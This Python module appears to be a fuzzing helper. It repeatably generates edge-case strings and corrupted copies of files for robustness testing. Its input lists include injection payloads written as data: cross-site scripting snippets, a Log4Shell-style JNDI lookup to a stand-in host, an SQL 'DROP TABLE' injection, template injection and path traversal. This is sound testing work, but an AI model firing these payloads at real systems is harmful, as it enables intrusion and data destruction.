"""Strings and files that break programs: made here, repeatably, from what is known to have done so."""

import random
import unicodedata
from collections.abc import Iterator

_SMALL = [
    "\\", "'", '"', "`", "<", ">", "&", "%", "$", "|", ";", ":", "#", "[", "]", "(", ")", "*", "_", "~", "^", "{", "}",
    "../", "..\\", "/", "C:\\", "con", "nul", "-rf", "--help", "%00", "%2e", "\x7f", "\x1b[31m", "\r\n", "\t", "\u2028",
]  # fmt: skip
_MARKUP = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[x](javascript:alert(1))", "![](http://evil.example/)",
    "<svg onload=alert(1)>", "</textarea><iframe src=//evil.example>", "[1]: http://evil.example", "[1][1][99][0]",
    "{{7*7}}", "${jndi:ldap://evil.example}", "'; DROP TABLE documents;--", "NEAR(", 'title:"', "AND OR NOT", "a^9 b~2",
    "*:*", "[a TO b]", "(((((", "\\u0000", "&lt;b&gt;", "```\n[1]", "> # [1] *", "$$x$$", "<!--", "]]>", "<?xml?>",
]  # fmt: skip
_LETTERS = [
    "é", "ß", "İ", "ﬁ", "Ω", "я", "字", "ग", "ع", "ש", "𝒳", "👩‍👩‍👧",
    "\u0301", "\u200b", "\u202e", "\ufeff", "\u2066", "\ue000", "\ufffe",
]  # fmt: skip


def strings(count: int) -> list[str]:
    """Return so many different strings, the same ones every time."""
    made = random.Random(7_007)
    found: dict[str, None] = dict.fromkeys([*_SMALL, *_MARKUP, *_LETTERS])
    while len(found) < count:
        found[_one(made)] = None
    kept = [*found]
    made.shuffle(kept)
    return kept[:count]


def _one(made: random.Random) -> str:
    kind = made.randrange(4)
    if kind == 0:  # one thing over and over: what backtracking and recursion cannot take
        return made.choice([*_SMALL, *_MARKUP, *_LETTERS]) * made.choice([2, 50, 700])
    if kind == 1:  # marks on one letter
        marks = [chr(code) for code in range(0x300, 0x370)]
        return made.choice("aeioun") + "".join(made.choices(marks, k=made.randrange(1, 90)))
    if kind == 2:  # any characters at all, without surrogates, which no file or socket carries
        codes = (
            made.choice([made.randrange(0x20), made.randrange(0x250), made.randrange(0x10FFFF)]) for _ in range(40)
        )
        return "".join(chr(code) for code in codes if unicodedata.category(chr(code)) != "Cs")
    return "".join(made.choices([*_SMALL, *_MARKUP, *_LETTERS, " ", "word", "What is"], k=made.randrange(2, 12)))


def mutations(content: bytes, count: int) -> Iterator[bytes]:
    """Yield so many damaged copies: cut short, bits turned, parts doubled, swapped, blanked or left out."""
    made = random.Random(len(content))
    for _ in range(count):
        damaged = bytearray(content)
        for _ in range(made.choice([1, 3, 20])):
            _damage(damaged, made)
        yield bytes(damaged)


def _damage(content: bytearray, made: random.Random) -> None:
    start = made.randrange(len(content) + 1)
    end = min(len(content), start + made.choice([1, 8, 200]))
    kind = made.randrange(5)
    if kind == 0 and start:
        del content[start:]
    elif kind == 1:
        content[start:end] = bytes(byte ^ 1 << made.randrange(8) for byte in content[start:end])
    elif kind == 2:
        content[start:end] = content[start:end] * 3
    elif kind == 3:
        content[start:end] = b"\xff" * (end - start)
    else:
        del content[start:end]
    content += b"\0" * (not content)
